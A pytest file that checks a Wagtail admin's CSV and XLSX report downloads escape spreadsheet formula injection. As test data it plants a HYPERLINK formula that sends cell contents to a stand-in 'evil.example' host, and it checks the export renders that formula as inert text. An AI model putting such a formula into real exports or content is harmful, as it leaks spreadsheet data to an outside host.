"""Every listing download in the admin writes text a spreadsheet would run as text; the rest have none.

Wagtail's own reports and redirects list are served guarded (mindsite/ops/guarded_reports.py);
page feedback, guides due for review and the orders export have their own tests
(tests/feedback, tests/guides, tests/orders), and the figures' CSV files tests/figures.
"""

import csv
import io

import openpyxl
import pytest
from django.utils import timezone
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log
from wagtail.models import Page, Workflow

from campaigns.orders.models import PrintOrder
from tests.admin_helpers import make_superuser

pytestmark = pytest.mark.django_db

STARTS = ["=", "+", "-", "@", "\t", "\r"]
FORMATS = ["csv", "xlsx"]
EVIL = 'HYPERLINK("http://evil.example/"&A1,"x")'


def rows_of(response, spreadsheet_format):
    """Every row of the real download, as lists of cell text."""
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if spreadsheet_format == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8"))))
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]


def evil_page(site, start):
    page = Page.objects.get(pk=site.chapters[0].pk).specific
    page.title = f"{start}{EVIL}"
    page.save_revision().publish()
    return page


def locked(site, user, start):
    page = evil_page(site, start)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=user, locked_at=timezone.now())


def aged(site, user, start):
    evil_page(site, start)


def logged(site, user, start):
    log(instance=evil_page(site, start), action="wagtail.edit", user=user)


def in_workflow(site, user, start):
    page = evil_page(site, start)
    workflow = Workflow.objects.get(name="Guide review")
    workflow.start(page, user)


def redirected(site, user, start):
    Redirect.objects.create(old_path="/old-address", redirect_link=f"{start}{EVIL}")


REPORTS = {
    "locked pages": ("/admin/reports/locked/", locked),
    "aging pages": ("/admin/reports/aging-pages/", aged),
    "site history": ("/admin/reports/site-history/", logged),
    "workflows": ("/admin/reports/workflow/", in_workflow),
    "workflow tasks": ("/admin/reports/workflow_tasks/", in_workflow),
    "redirects": ("/admin/redirects/", redirected),
}


@pytest.mark.parametrize("start", STARTS, ids=repr)
@pytest.mark.parametrize("spreadsheet_format", FORMATS)
@pytest.mark.parametrize("report", REPORTS)
def test_wagtails_reports_download_text_a_spreadsheet_would_run_as_text(
    client, site, django_user_model, report, spreadsheet_format, start
):
    url, make = REPORTS[report]
    user = make_superuser(django_user_model)
    make(site, user, start)
    client.force_login(user)
    cells = [
        cell for row in rows_of(client.get(url, {"export": spreadsheet_format}), spreadsheet_format) for cell in row
    ]
    evil = [cell for cell in cells if EVIL in cell]
    assert evil, cells
    # XML, inside an XLSX, reads a carriage return back as a line feed.
    for cell in evil:
        assert cell.replace("\r", "\n") == f"'{start}{EVIL}".replace("\r", "\n")
    assert not any(cell.startswith(tuple(STARTS)) for cell in cells)


@pytest.mark.parametrize("spreadsheet_format", FORMATS)
@pytest.mark.parametrize(
    "url",
    [
        "/admin/snippets/orders/printorder/",
        "/admin/snippets/orders/printorder/results/",
        "/admin/users/",
        "/admin/reports/page-types-usage/",
    ],
)
def test_lists_without_a_download_of_their_own_refuse_one(client, site, django_user_model, url, spreadsheet_format):
    """Wagtail answers ?export= on any listing; the orders list's only download is its own Export."""
    PrintOrder.objects.create(full_name="=1+1", email="a@example.org", postcode="SW1A 1AA", address_line_1="1 Road")
    client.force_login(make_superuser(django_user_model))
    assert client.get(url).status_code == 200
    assert client.get(url, {"export": spreadsheet_format}).status_code == 404
